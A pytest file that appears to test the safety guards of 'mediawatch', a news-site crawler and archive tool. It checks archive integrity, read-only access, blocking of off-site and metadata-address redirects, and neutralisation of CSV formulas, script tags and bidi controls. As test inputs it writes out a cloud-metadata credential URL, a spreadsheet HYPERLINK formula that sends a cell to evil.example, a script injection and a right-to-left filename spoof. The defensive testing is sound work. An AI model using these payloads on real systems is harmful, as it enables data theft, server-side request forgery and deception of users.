"""Nothing the user types or the site sends destroys, changes or leaks the archive."""

from __future__ import annotations

import csv
import errno
import hashlib
import html
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest
import sqlite_utils
from click.testing import CliRunner
from commands import crawl

from cli import main
from crawler.hostguard import (
    PublicAddressResolver,
    address_refused,
    check_base_url,
    non_public,
    on_outlet,
)
from crawler.runner import crawl_settings
from replay.server import ReplayServer
from storage.access import keep_shared_files
from storage.archive import Archive
from storage.migrations import migrate
from storage.processes import run_died
from views.inert import csv_safe, show_bidi

ROOT = Path(__file__).resolve().parent.parent
READING = ["search x", "changes", "history 1", "diff 1", "show 1", "translations 1", "stats",
           "status", "export"]



def cli(*args: str) -> SimpleNamespace:
    result = CliRunner().invoke(main, list(args))
    return SimpleNamespace(code=result.exit_code, out=result.stdout, err=result.stderr,
                           exception=result.exception)


def assert_one_line(result, starts: str = "") -> None:
    assert result.code == 2, (result.out, result.err)
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
    assert result.err.startswith(f"error: {starts}"), result.err
    assert result.err.count("\n") == 1, result.err


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files_in(folder: Path) -> dict[str, str]:
    return {p.name: digest(p) for p in sorted(folder.iterdir()) if p.is_file()}


def assert_unchanged(folder: Path, before: dict[str, str]) -> None:
    """Every file as it was; the only new files SQLite's own -wal and -shm of a WAL archive,
    made by its owner's read (another user's read makes none: see the shared-use test)."""
    after = files_in(folder)
    assert {name: after[name] for name in before} == before
    new = [folder / name for name in set(after) - set(before)]
    assert all(p.name.endswith(("-wal", "-shm")) and p.stat().st_uid == os.geteuid() for p in new)


def query(db: Path, sql: str) -> list[tuple]:
    with closing(sqlite3.connect(db)) as conn:
        return conn.execute(sql).fetchall()


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> SimpleNamespace:
    """An archive of a small replay crawled at epoch 0 and revisited at epoch 1."""
    folder = tmp_path_factory.mktemp("safety")
    db = folder / "archive.db"
    with ReplayServer(articles=30, seed=2) as server:
        crawl(server.base_url, db)
        server.set_epoch(1)
        crawl(server.base_url, db, "--mode", "revisit", "--everything")
        manifest = server.manifest()
    revised = query(db, "SELECT id FROM articles WHERE current_version > 1 ORDER BY id")
    return SimpleNamespace(db=db, manifest=manifest, revised=revised[0][0],
                           first=query(db, "SELECT min(id) FROM articles WHERE current_version = 1")[0][0])


@pytest.fixture
def archive_copy(built, tmp_path) -> Path:
    db = tmp_path / "archive.db"
    shutil.copy(built.db, db)
    keep_shared_files(db)  # as a crawl leaves them
    return db


def foreign_database(path: Path) -> Path:
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)")
        conn.execute("INSERT INTO notes (text) VALUES ('not an archive')")
    return path


def outdated_archive(path: Path) -> Path:
    """An archive as the version before `m010_run_processes` left it."""
    with closing(sqlite_utils.Database(path)) as db:
        migrate(db, stop_before="m010_run_processes")
    return path


# ---- 1. exports never write onto the archive; demo replaces only its own ---------------------

@pytest.mark.parametrize("fmt", ["csv", "jsonl", "warc"])
@pytest.mark.parametrize("target", ["same", "relative", "symlink", "hardlink", "wal", "shm",
                                    "missing-wal", "journal"])
def test_an_export_never_writes_onto_the_archive(archive_copy, tmp_path, monkeypatch, fmt, target):
    db = archive_copy
    if target == "missing-wal":
        Path(f"{db}-wal").unlink()
    output = {
        "same": str(db), "relative": "./archive.db", "wal": f"{db}-wal", "shm": f"{db}-shm",
        "missing-wal": f"{db}-wal", "journal": f"{db}-journal",
        "symlink": str(tmp_path / "link.csv"), "hardlink": str(tmp_path / "hard.csv"),
    }[target]
    if target == "symlink":
        os.symlink(db, output)
    if target == "hardlink":
        os.link(db, output)
    monkeypatch.chdir(tmp_path)
    before = files_in(tmp_path)
    result = cli("export", "--format", fmt, "--output", output, "--db", str(db))
    assert_one_line(result, f"{output} is the archive {db}")
    assert files_in(tmp_path) == before
    assert query(db, "PRAGMA integrity_check") == [("ok",)]


def test_an_export_is_written_whole_or_not_at_all(archive_copy, tmp_path, monkeypatch):
    from views import export as report

    out = tmp_path / "articles.jsonl"
    out.write_text("the previous export\n")
    os.chmod(out, 0o640)
    written = report.write_jsonl

    def fails_midway(records, handle):
        handle.write('{"article_id": 1}\n')
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(report, "write_jsonl", fails_midway)
    result = cli("export", "--output", str(out), "--db", str(archive_copy))
    assert_one_line(result, f"cannot write {out}: No space left on device")
    assert out.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["archive.db", "archive.db-shm",
                                                         "archive.db-wal", "articles.jsonl"]
    monkeypatch.setattr(report, "write_jsonl", written)
    result = cli("export", "--output", str(out), "--db", str(archive_copy))
    assert result.code == 0, result.err
    lines = out.read_text().splitlines()
    assert len(lines) == query(archive_copy, "SELECT count(*) FROM articles")[0][0]
    assert all(json.loads(line)["article_id"] for line in lines)
    assert out.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize(("output", "message"), [
    ("{tmp}/missing/folder/x.csv", "cannot write {tmp}/missing/folder/x.csv: the folder"),
    ("/dev/full", "cannot write /dev/full: No space left on device"),
    ("{tmp}", "cannot write {tmp}: it is a folder"),
])
def test_an_export_that_cannot_be_written_is_one_line(archive_copy, tmp_path, output, message):
    output = output.format(tmp=tmp_path)
    result = cli("export", "--format", "csv", "--output", output, "--db", str(archive_copy))
    assert_one_line(result, message.format(tmp=tmp_path))


@pytest.mark.parametrize("kind", ["text", "foreign", "archive", "empty", "stray-wal"])
def test_demo_replaces_only_an_archive_it_made(built, tmp_path, kind):
    db = tmp_path / "demo.db"
    if kind == "text":
        db.write_text("my notes")
    elif kind == "foreign":
        foreign_database(db)
    elif kind == "archive":
        shutil.copy(built.db, db)
    elif kind == "empty":
        db.touch()
    else:
        Path(f"{db}-wal").write_bytes(b"\0" * 64)
    before = files_in(tmp_path)
    result = cli("demo", "--db", str(db))
    assert_one_line(result, "")
    assert "is not an archive made by mediawatch demo" in result.err
    assert_unchanged(tmp_path, before)


# ---- 2. reading commands open read-only; migrate ---------------------------------------------

@pytest.mark.parametrize("command", READING + ["schedule --list"])
@pytest.mark.parametrize(("kind", "message"), [
    ("foreign", "{db} is not a mediawatch archive"),
    ("empty", "{db} is not a mediawatch archive"),
    ("garbage", "{db} is not a mediawatch archive"),
    ("outdated", "{db} was made by an older version of mediawatch: run `mediawatch migrate"),
])
def test_reading_commands_change_no_file(tmp_path, command, kind, message):
    db = tmp_path / "data.db"
    if kind == "foreign":
        foreign_database(db)
    elif kind == "empty":
        db.touch()
    elif kind == "garbage":
        db.write_bytes(b"garbage, not a database " * 200)
    else:
        outdated_archive(db)
    journal = query(db, "PRAGMA journal_mode") if kind in ("foreign", "outdated") else None
    before = files_in(tmp_path)
    result = cli(*command.split(), "--db", str(db))
    assert_one_line(result, message.format(db=db))
    assert_unchanged(tmp_path, before)
    if journal:
        assert query(db, "PRAGMA journal_mode") == journal


def test_migrate_brings_an_older_archive_up_to_date(tmp_path):
    db = outdated_archive(tmp_path / "old.db")
    assert cli("stats", "--db", str(db)).code == 2
    result = cli("migrate", "--db", str(db))
    assert result.code == 0 and result.out == (
        f"migrated {db}: m010_run_processes, m011_archive_notes, m012_watches, "
        "m013_watch_errors, m014_watch_receivers, m015_evidence, m016_change_excerpts, "
        "m017_divergence, m018_outlets, m019_watch_outlets, m020_run_outlets, "
        "m021_zstd_captures\n")
    assert cli("stats", "--db", str(db)).code == 0
    assert cli("migrate", "--db", str(db)).out == f"{db} is up to date: nothing to migrate\n"
    assert_one_line(cli("migrate", "--db", str(foreign_database(tmp_path / "other.db"))),
                    f"{tmp_path / 'other.db'} is not a mediawatch archive")
    assert_one_line(cli("migrate", "--db", str(tmp_path / "none.db")), "no archive at")
    assert not (tmp_path / "none.db").exists()


@pytest.mark.parametrize("damage", [
    "ALTER TABLE articles RENAME COLUMN title TO headline",
    "ALTER TABLE versions RENAME COLUMN body TO text",
    "DROP TABLE versions_fts",
])
@pytest.mark.parametrize("command", ["search митинг", "search митинг --all-versions", "changes",
                                     "history FIRST", "show FIRST", "diff REVISED", "stats",
                                     "export --format csv"])
def test_a_damaged_archive_is_one_line(built, archive_copy, damage, command):
    with closing(sqlite3.connect(archive_copy)) as conn, conn:
        conn.execute(damage)
    args = [str(built.first) if a == "FIRST" else str(built.revised) if a == "REVISED" else a
            for a in command.split()]
    assert_one_line(cli(*args, "--db", str(archive_copy)),
                    f"{archive_copy} is damaged or was changed by another program: table ")


def test_the_crawl_refuses_a_file_that_is_not_an_archive(tmp_path):
    for db in (foreign_database(tmp_path / "other.db"), tmp_path / "garbage.db"):
        if not db.exists():
            db.write_bytes(b"garbage " * 100)
        before = digest(db)
        result = crawl("http://127.0.0.1:9", db, check=False)
        assert result.returncode == 2 and "Traceback" not in result.stderr
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"error: {db} is not a mediawatch archive")
        assert digest(db) == before


# ---- 3. shared use -----------------------------------------------------------------------------

def test_a_read_by_another_user_does_not_lock_the_owner_out(built, other_user):
    folder = Path(tempfile.mkdtemp(prefix="mediawatch-shared-"))
    try:
        os.chmod(folder, 0o777)
        db = folder / "archive.db"
        shutil.copy(built.db, db)
        owner, reader = 65534, 65533
        os.chown(db, owner, owner)
        home = folder / "home"
        home.mkdir()
        os.chmod(home, 0o777)

        def as_user(uid: int, *args: str) -> subprocess.CompletedProcess:
            return subprocess.run(
                ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", sys.executable,
                 "-m", "cli", *args, "--db", str(db)],
                capture_output=True, text=True, timeout=300, cwd=ROOT,
                env={**os.environ, "HOME": str(home)})

        with ReplayServer(articles=30, seed=2, epoch=1) as server:
            # the archive as the owner's crawls leave it, then read by another user
            first = as_user(owner, "crawl", "--mode", "revisit", "--everything", "--edition", "en",
                            "--base-url", server.base_url)
            assert first.returncode == 0, first.stderr[-2000:]
            owners = {p.name: p.stat().st_uid for p in folder.iterdir() if p.is_file()}
            for command in ("stats", "search митинг", "export --format csv"):
                read = as_user(reader, *command.split())
                assert read.returncode == 0, read.stderr[-2000:]
            assert {p.name: p.stat().st_uid for p in folder.iterdir() if p.is_file()} == owners
            # an archive whose -wal and -shm are gone: read as the file stands, nothing created
            for name in ("archive.db-wal", "archive.db-shm"):
                (folder / name).unlink()
            read = as_user(reader, "status")
            assert read.returncode == 0, read.stderr[-2000:]
            assert sorted(p.name for p in folder.iterdir() if p.is_file()) == ["archive.db"]
            server.set_epoch(2)
            again = as_user(owner, "crawl", "--mode", "revisit", "--everything",
                            "--base-url", server.base_url)
            assert again.returncode == 0, again.stderr[-2000:]
            assert "readonly" not in again.stderr
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# ---- 4. the crawl stays on the outlet --------------------------------------------------------

class Recorder(ThreadingHTTPServer):
    """A server on 127.0.0.1 that answers from a table of paths and records every request."""

    def __init__(self, routes: dict[str, tuple[int, dict[str, str]]], default: int = 304):
        self.routes, self.default, self.seen = routes, default, []

        class Handler(BaseHTTPRequestHandler):
            def do_request(handler) -> None:
                self.seen.append((handler.command, handler.path))
                status, headers = self.routes.get(handler.path, (self.default, {}))
                handler.send_response(status)
                for name, value in headers.items():
                    handler.send_header(name, value)
                handler.send_header("Content-Length", "0")
                handler.end_headers()

            do_GET = do_HEAD = do_POST = do_CONNECT = do_request

            def log_message(handler, *args) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


def test_a_redirect_off_the_outlet_is_a_removal_and_is_never_followed(tmp_path):
    """A revisit through a front that redirects articles to another port of 127.0.0.1 and to a
    cloud metadata address. Any request not for 127.0.0.1 would go to a trap proxy on this
    machine (so nothing leaves it even if the guard failed), and the trap must see nothing."""
    db = tmp_path / "archive.db"
    with ReplayServer(articles=30, seed=2) as replay:
        crawl(replay.base_url, db, "--edition", "en")
        manifest = {a["id"]: a for a in replay.manifest()["articles"]}
        ids = [row[0] for row in query(db, "SELECT id FROM articles ORDER BY id")]
        other_port = f"{replay.base_url}{manifest[ids[0]]['path']}"
        metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        elsewhere = "https://evil.example" + manifest[ids[2]]["path"]
        trap = Recorder({}, default=502)
        front = Recorder({
            manifest[ids[0]]["path"]: (302, {"Location": other_port}),
            manifest[ids[1]]["path"]: (301, {"Location": metadata}),
            manifest[ids[2]]["path"]: (307, {"Location": elsewhere}),
            "/robots.txt": (404, {}),
        })
        replay_seen = []
        pick = replay.app.faults.pick
        replay.app.faults.pick = lambda path: replay_seen.append(path) or pick(path)
        proxies = {name: trap.url for name in ("http_proxy", "https_proxy", "HTTP_PROXY",
                                               "HTTPS_PROXY")}
        done = crawl(front.url, db, "--mode", "revisit", "--everything", "--edition", "en",
                     env={**proxies, "no_proxy": "127.0.0.1,localhost",
                          "NO_PROXY": "127.0.0.1,localhost", "MEDIAWATCH_LOG_LEVEL": "DEBUG"})
        trap.shutdown()
        front.shutdown()
    assert trap.seen == []
    assert replay_seen == []
    assert "169.254.169.254" not in "\n".join(line for line in done.stderr.splitlines()
                                               if "Crawled" in line or "Redirecting" in line)
    events = query(db, "SELECT article_id, kind, status, location FROM events WHERE kind = 'removed'"
                       " ORDER BY article_id")
    assert events == [(ids[0], "removed", 302, other_port), (ids[1], "removed", 301, metadata),
                      (ids[2], "removed", 307, elsewhere)]
    assert query(db, "SELECT count(*) FROM versions") == query(db, "SELECT count(*) FROM articles")
    assert len([p for _, p in front.seen if p.endswith(".html")]) == len(ids)


def test_the_outlets_hosts_and_addresses():
    base = "https://vlast.kz"
    assert on_outlet("https://www.vlast.kz/politika/1-a.html", base)
    assert on_outlet("http://vlast.kz/x", base)
    for url in ("https://evil.example/politika/1-a.html", "https://vlast.kz.evil.example/",
                "https://vlast.kz:8443/", "ftp://vlast.kz/", "file:///etc/passwd",
                "https://[vlast.kz/", "/politika/1-a.html"):
        assert not on_outlet(url, base), url
    for host in ("127.0.0.1", "10.1.2.3", "192.168.0.1", "169.254.169.254", "::1", "[fe80::1]",
                 "localhost", "0.0.0.0", "100.64.0.1"):
        assert non_public(host) and address_refused(host, base), host
    assert not non_public("8.8.8.8") and not non_public("vlast.kz")
    assert not address_refused("127.0.0.1", "http://127.0.0.1:8765")
    assert not address_refused("10.0.0.5", "http://localhost:8765")


def test_a_name_resolving_to_a_private_address_is_refused():
    from twisted.internet.error import DNSLookupError

    resolver = PublicAddressResolver.__new__(PublicAddressResolver)
    resolver.base_url = "https://vlast.kz"
    with pytest.raises(DNSLookupError, match="169.254.169.254, not a public address"):
        resolver._refuse_private("169.254.169.254", "vlast.kz")
    assert resolver._refuse_private("93.184.216.34", "vlast.kz") == "93.184.216.34"
    resolver.base_url = "http://localhost:8765"
    assert resolver._refuse_private("127.0.0.1", "localhost") == "127.0.0.1"
    settings = crawl_settings("https://vlast.kz", "archive.db")
    assert settings.get("TWISTED_DNS_RESOLVER") == "crawler.hostguard.PublicAddressResolver"
    middlewares = settings.getdict("DOWNLOADER_MIDDLEWARES")
    assert middlewares["crawler.hostguard.OutletRequests"] < 100  # before robots.txt
    assert middlewares["crawler.hostguard.OutletRedirects"] > 600  # before Scrapy's redirects


@pytest.mark.parametrize(("url", "reason"), [
    ("not a url", "is not a URL"), ("https://[vlast.kz", "is not a URL"),
    ("ftp://vlast.kz", "is not a URL"), ("https://vlast.kz:99999", "is not a URL"),
    ("https://vlast.kz/politika/", "without a path"), ("vlast.kz", "is not a URL"),
])
def test_a_bad_base_url_is_one_line(tmp_path, url, reason):
    with pytest.raises(ValueError, match=reason):
        check_base_url(url)
    db = tmp_path / "none.db"
    for command in ("crawl", "schedule"):
        assert_one_line(cli(command, "--base-url", url, "--db", str(db)), "--base-url")
    assert not db.exists()
    assert check_base_url("https://vlast.kz/") == "https://vlast.kz"


def test_a_bad_base_url_stops_the_crawl_before_scrapy_starts(tmp_path):
    result = subprocess.run([sys.executable, "-m", "cli", "crawl", "--base-url", "not a url",
                             "--db", str(tmp_path / "a.db")],
                            capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert result.returncode == 2
    assert result.stderr == "error: --base-url 'not a url' is not a URL: give one such as " \
                            "https://vlast.kz or http://127.0.0.1:8765\n"


# ---- 5. no remote control --------------------------------------------------------------------

def test_no_remote_control_server_and_no_token_files(tmp_path):
    assert crawl_settings("https://vlast.kz", "archive.db").getbool("REMOTE_CONTROL_ENABLED") is False
    assert crawl_settings("https://vlast.kz", "archive.db").getbool("TELNETCONSOLE_ENABLED") is False
    home = tmp_path / "home"
    home.mkdir()
    env = {"HOME": str(home), "XDG_STATE_HOME": "", "MEDIAWATCH_LOG_LEVEL": "INFO"}
    with ReplayServer(articles=30, seed=2) as server:
        done = crawl(server.base_url, tmp_path / "a.db", "--edition", "en", "--limit", "2", env=env)
    assert list(home.rglob("*")) == []
    assert "RemoteControl" not in done.stderr and "remote control" not in done.stderr.lower()


# ---- 6, 7. CSV formulas, scripts in headings, bidi controls ----------------------------------

def test_csv_cells_never_start_a_formula():
    for text in ("=HYPERLINK(\"https://evil.example\",\"x\")", "+1", "-1+2", "@SUM(A1)",
                 "\t=1", "\r=1", "\uff1d1"):
        assert csv_safe(text) == "'" + text
    assert csv_safe("Митинг =1") == "Митинг =1" and csv_safe(42) == 42 and csv_safe(None) is None
    assert show_bidi("a\u202eb\u2066c") == "a<U+202E>b<U+2066>c"


TITLE = '=HYPERLINK("https://evil.example/?q="&A1,"see")<script>document.title="from a script"</script>'
RLO = "\u202e"


def test_hostile_headings_and_bidi_controls_are_inert_on_output(tmp_path):
    db = tmp_path / "archive.db"
    with ReplayServer(articles=30, seed=2) as server:
        target = next(a for a in server.manifest()["articles"]
                      if a["status"] == 200 and a["language"] == "en")

        def transform(path: str, text: str) -> str:
            if path != target["path"]:
                return text
            heading = f">{html.escape(target['title'], quote=False)}</h1>"
            assert heading in text
            text = text.replace(heading, f">{TITLE}<style>h1{{}}</style>{RLO}{heading[1:]}", 1)
            return text.replace("js-mediator-article font-edit\">\n<p>",
                                f"js-mediator-article font-edit\">\n<p>txt.exe{RLO}fdp. ", 1)

        server.app.transform = transform
        crawl(server.base_url, db, "--edition", "en")
    article = str(target["id"])
    stored = query(db, f"SELECT title, body FROM versions WHERE article_id = {article}")[0]
    assert stored[0] == f'=HYPERLINK("https://evil.example/?q="&A1,"see"){RLO}{target["title"]}'
    assert "script" not in stored[0] and "h1{}" not in stored[0]
    assert RLO in stored[1]  # the archive keeps the evidence
    outputs = [cli(*command, "--db", str(db)).out for command in (
        ["show", article], ["history", article], ["search", target["title"].split()[0]],
        ["changes", "--since", "1h"], ["translations", article])]
    csv_out = cli("export", "--format", "csv", "--lang", "en", "--db", str(db)).out
    for text in [*outputs, csv_out]:
        assert RLO not in text
    assert "<U+202E>" in outputs[0]
    rows = {row["article_id"]: row for row in csv.DictReader(io.StringIO(csv_out))}
    assert rows[article]["title"].startswith("'=HYPERLINK(")
    assert "txt.exe<U+202E>fdp." in rows[article]["body"]
    assert not [cell for row in rows.values() for cell in row.values()
                if cell[:1] in ("=", "+", "-", "@")]
    assert RLO in cli("export", "--format", "jsonl", "--lang", "en", "--db", str(db)).out


# ---- 8. the size of a page given to extract --------------------------------------------------

def test_extract_refuses_a_page_over_the_download_limit(tmp_path):
    from settings import DOWNLOAD_MAXSIZE

    page = tmp_path / "huge.html"
    with open(page, "wb") as out:
        out.write(b"<html><body><p>")
        out.truncate(DOWNLOAD_MAXSIZE + 1)
    result = cli("extract", str(page), "--url", "https://vlast.kz/politika/1-a.html")
    assert_one_line(result, f"{page} is larger than 16 MB")


# ---- 9. runs record their process ------------------------------------------------------------

def dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_run_whose_process_died_is_shown_died_and_a_live_one_is_left_alone(tmp_path):
    db = tmp_path / "archive.db"
    with Archive(db) as archive:
        live = archive.start_run("new", ["ru"], "https://vlast.kz")  # this process: alive
        dead = archive.start_run("new", ["kk"], "https://vlast.kz")
        other_host = archive.start_run("new", ["en"], "https://vlast.kz")
        child = archive.start_run("revisit", ["en"], "https://vlast.kz")
        archive.db.execute("UPDATE runs SET pid = ? WHERE id = ?", [dead_pid(), dead])
        archive.db.execute("UPDATE runs SET host = 'elsewhere', pid = 1 WHERE id = ?", [other_host])
        archive.db.execute("UPDATE runs SET pid = 4242 WHERE id = ?", [child])
        archive.db.conn.commit()
    status = {run["id"]: run["status"] for run in json.loads(cli("status", "--json", "--db",
                                                                  str(db)).out)["runs"]}
    assert status == {live: "running", dead: "died", other_host: "running", child: "died"}
    assert f"run {dead} [kk new] died" in cli("status", "--db", str(db)).out
    with Archive(db) as archive:
        assert archive.close_unfinished_runs("killed", pid=4242) == 1  # the scheduler's child
        assert archive.close_unfinished_runs("died") == 1
        rows = dict(archive.db.execute("SELECT id, status FROM runs").fetchall())
    assert rows == {live: "running", dead: "died", other_host: "running", child: "killed"}


def test_a_reused_pid_is_not_taken_for_the_run():
    here = __import__("socket").gethostname()
    run = {"status": "running", "pid": os.getpid(), "host": here}
    assert not run_died({**run, "started_at": "2099-01-01T00:00:00Z"})
    assert run_died({**run, "started_at": "2000-01-01T00:00:00Z"})  # this process is younger
    assert run_died({**run, "pid": None})  # recorded before pids were
    assert not run_died({**run, "status": "ok", "pid": dead_pid()})


def test_a_killed_crawl_shows_as_died_and_the_next_crawl_closes_it(tmp_path):
    db = tmp_path / "archive.db"
    with ReplayServer(articles=30, seed=2, faults=["slow=20"]) as server:
        process = subprocess.Popen(
            [sys.executable, "-m", "cli", "crawl", "--edition", "ru", "--base-url", server.base_url,
             "--db", str(db)], cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if db.exists() and cli("status", "--json", "--db", str(db)).out.count('"running"'):
                break
            time.sleep(0.2)
        assert json.loads(cli("status", "--json", "--db", str(db)).out)["runs"][0]["status"] == "running"
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert json.loads(cli("status", "--json", "--db", str(db)).out)["runs"][0]["status"] == "died"
        assert query(db, "SELECT status FROM runs") == [("running",)]  # nothing could record it
        server.clear_faults()
        crawl(server.base_url, db, "--edition", "ru", "--limit", "1")
    assert query(db, "SELECT status FROM runs ORDER BY id") == [("died",), ("ok",)]


# ---- 11. each of these is one line and status 2 (or works) -----------------------------------

@pytest.mark.parametrize(("args", "message"), [
    (["changes", "--since", "99999999d"], "--since: '99999999d' reaches back before the year 1"),
    (["export", "--since", "99999999w"], "--since:"),
    (["search", "x", "--since", "99999999d"], "--since:"),
    (["history", "99999999999999999999"], "no archived article matches"),
    (["history", "²"], "no archived article matches"),
    (["show", "https://[vlast.kz/40752-x.html"], "no archived article matches"),
    (["diff", "https://evil.example/people/FIRST-x.html"], "no archived article matches"),
    (["show", "FIRST", "--version", "99999999999999999999"], "article FIRST has versions 1 to 1;"),
    (["diff", "REVISED", "--to", "0"], "article REVISED has versions 1 to 2; there is no version 0"),
    (["diff", "REVISED", "--from", "0"], "article REVISED has versions 1 to 2; there is no version 0"),
    (["diff", "REVISED", "--from", "99999999999999999999"], "article REVISED has versions 1 to 2"),
])
def test_what_gave_a_traceback_is_one_line(built, args, message):
    names = {"FIRST": str(built.first), "REVISED": str(built.revised)}
    for name, value in names.items():
        args = [a.replace(name, value) for a in args]
        message = message.replace(name, value)
    assert_one_line(cli(*args, "--db", str(built.db)), message)


@pytest.mark.parametrize("command", ["changes", "export"])
@pytest.mark.parametrize("since", ["0001-01-01", "0001-01-01T00:00+06:00", "0001-01-01T03:00"])
def test_the_earliest_dates_work(built, command, since):
    result = cli(command, "--since", since, "--limit", "1000", "--db", str(built.db)) \
        if command == "changes" else cli(command, "--since", since, "--db", str(built.db))
    assert result.code == 0 and result.exception is None, result.err
    articles = query(built.db, "SELECT count(*) FROM articles")[0][0]
    assert len(result.out.splitlines()) >= articles
    latest = cli(command, "--since", "9999-12-31T23:59:59-12:00", "--db", str(built.db))
    assert latest.code == 0 and latest.exception is None, latest.err


def test_an_archived_article_is_found_by_the_outlets_url_only(built):
    url = query(built.db, f"SELECT url FROM articles WHERE id = {built.first}")[0][0]
    assert cli("history", url, "--db", str(built.db)).code == 0
    assert cli("history", url.replace("127.0.0.1", "localhost"), "--db", str(built.db)).code == 2
